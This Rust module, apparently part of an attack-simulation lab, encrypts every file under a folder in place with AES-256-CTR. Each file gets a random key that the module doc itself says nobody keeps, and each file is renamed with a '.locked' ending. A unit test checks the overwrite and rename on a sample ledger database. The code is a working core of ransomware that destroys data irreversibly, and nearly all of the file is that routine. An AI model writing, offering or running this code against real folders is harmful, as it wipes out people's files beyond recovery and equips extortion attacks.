//! Encryption in place with a key that nobody keeps.

use std::{
    io::{Read, Seek, SeekFrom, Write},
    path::Path,
};

use aws_lc_rs::cipher::{AES_256, EncryptingKey, EncryptionContext, UnboundCipherKey};
use kuramori_model::clock::Random;

use super::{Attacked, scope::files};
use crate::error::{LabError, Result};

/// How much is encrypted at a time.
const PIECE: usize = 1 << 20;
/// What is put behind the name of a file that is done.
pub(super) const ENDING: &str = ".locked";

/// Encrypts every file below a folder and renames it.
pub(super) fn tree(folder: &Path, random: &dyn Random, done: &mut Attacked) -> Result<()> {
    for path in files(folder)? {
        if path.as_os_str().to_string_lossy().ends_with(ENDING) {
            continue;
        }
        if let Ok(bytes) = file(&path, random) {
            done.files_encrypted += 1;
            done.bytes_encrypted += bytes;
        } else {
            done.withstood += 1;
        }
    }
    Ok(())
}

fn file(path: &Path, random: &dyn Random) -> Result<u64> {
    let mut key = [0; 32];
    random.fill(&mut key);
    let mut file = fs_err::OpenOptions::new().read(true).write(true).open(path)?;
    let mut piece = vec![0; PIECE];
    let mut at = 0;
    loop {
        let length = file.read(&mut piece)?;
        if length == 0 {
            break;
        }
        scramble(&key, random, &mut piece[..length])?;
        file.seek(SeekFrom::Start(at))?;
        file.write_all(&piece[..length])?;
        at += length as u64;
    }
    let mut name = path.as_os_str().to_owned();
    name.push(ENDING);
    fs_err::rename(path, name)?;
    Ok(at)
}

/// AES-256-CTR with a fresh counter block.
pub(crate) fn scramble(key: &[u8; 32], random: &dyn Random, bytes: &mut [u8]) -> Result<()> {
    let refused = |_| LabError::Answer { server: "the cipher", answer: "refused".to_owned() };
    let mut counter = [0; 16];
    random.fill(&mut counter);
    let cipher =
        EncryptingKey::ctr(UnboundCipherKey::new(&AES_256, key).map_err(refused)?).map_err(refused)?;
    cipher.less_safe_encrypt(bytes, EncryptionContext::Iv128(counter.into())).map_err(refused)?;
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use kuramori_model::clock::SeededRandom;

    #[test]
    fn every_file_changes_in_place_and_gets_another_name() {
        let folder = tempfile::tempdir().unwrap();
        let content = vec![7; PIECE + 100];
        fs_err::create_dir(folder.path().join("in")).unwrap();
        fs_err::write(folder.path().join("in/台帳.mdb"), &content).unwrap();
        let mut done = Attacked::default();
        tree(folder.path(), &SeededRandom::new(1), &mut done).unwrap();
        assert_eq!((done.files_encrypted, done.bytes_encrypted), (1, content.len() as u64));
        let now = fs_err::read(folder.path().join("in/台帳.mdb.locked")).unwrap();
        assert_eq!(now.len(), content.len());
        let same = now.iter().zip(&content).filter(|(a, b)| a == b).count();
        assert!(same < content.len() / 100, "{same}");
        assert!(!folder.path().join("in/台帳.mdb").exists());
    }
}
